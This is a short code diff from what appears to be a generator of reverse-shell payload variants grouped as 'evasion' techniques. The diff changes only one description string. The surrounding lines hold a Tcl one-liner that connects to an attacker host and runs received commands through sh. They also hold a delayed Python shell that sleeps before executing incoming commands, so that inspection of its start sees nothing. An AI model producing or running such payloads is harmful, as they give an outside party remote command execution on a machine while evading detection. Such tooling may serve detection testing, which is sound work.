@@ -184,7 +184,7 @@ asyncio.run(main())`,
       `set s [socket ${place.attacker} ${place.port}]; while {[gets $s c] >= 0} { puts $s [exec sh -c $c]; flush $s }`,
   ),
   evasion(
-    "python waits ten seconds before it obeys a first time",
+    "python waits before it obeys a first time",
     "who looks only at the beginning sees nothing",
     (place) =>
       `exec python3 -c '${python(`import time\n${connection(place)}time.sleep(1.5)\nfor line in s.makefile():\n    s.sendall(subprocess.getoutput(line).encode())`)}'`,
